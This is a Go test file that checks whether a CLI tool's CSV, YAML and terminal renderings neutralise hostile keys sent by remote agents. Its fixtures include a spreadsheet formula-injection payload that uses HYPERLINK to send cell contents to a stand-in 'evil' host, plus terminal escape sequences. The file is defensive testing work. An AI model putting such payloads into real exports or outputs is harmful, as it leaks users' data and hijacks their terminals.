package cli

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/commandcontrol/commandcontrol/bench"
)

// TestReview16CSVHeaderFromAgentKeys: for a function without a built-in
// rendering, --output csv makes its header from the keys of the results
// (leafPaths), and those keys are the agent's words. Cells go through
// csvText; the header does not, so an agent's key reaches the operator's
// terminal raw and a spreadsheet as a formula.
func TestReview16CSVHeaderFromAgentKeys(t *testing.T) {
	res := json.RawMessage(`{"=HYPERLINK(\"http://evil/\"&A2,\"x\")":1,"` + jsonEsc(escClear) + `":2}`)
	replies := []bench.Reply{{Machine: "10.6.6.6_evil", Status: bench.StatusOK, Result: res}}
	out, err := render(t, "custom-fn", replies, viewFlags{output: "csv", show: showAll})
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, out)
	}
	for _, cell := range recs[0] {
		if cell != "" && strings.IndexByte("=+-@", cell[0]) >= 0 {
			t.Errorf("csv header cell %q is a formula a spreadsheet runs", cell)
		}
	}
}

// TestReview16HostileKeysOtherFormats (passes: sound): the same agent-chosen keys in the
// other renderings of a custom function (render checks the terminal).
func TestReview16HostileKeysOtherFormats(t *testing.T) {
	res := json.RawMessage(`{"` + jsonEsc(escClear) + `":2,"a":{"` + jsonEsc(escTitle) + `":[1,"` + jsonEsc(escReload) + `"]}}`)
	replies := []bench.Reply{{Machine: "10.6.6.6_evil", Status: bench.StatusOK, Result: res}}
	for _, f := range []viewFlags{{show: showAll}, {output: "yaml", show: showAll}, {show: showAll, summary: true},
		{output: "csv", show: showAll, summary: true}} {
		_, _ = render(t, "custom-fn", replies, f)
	}
}
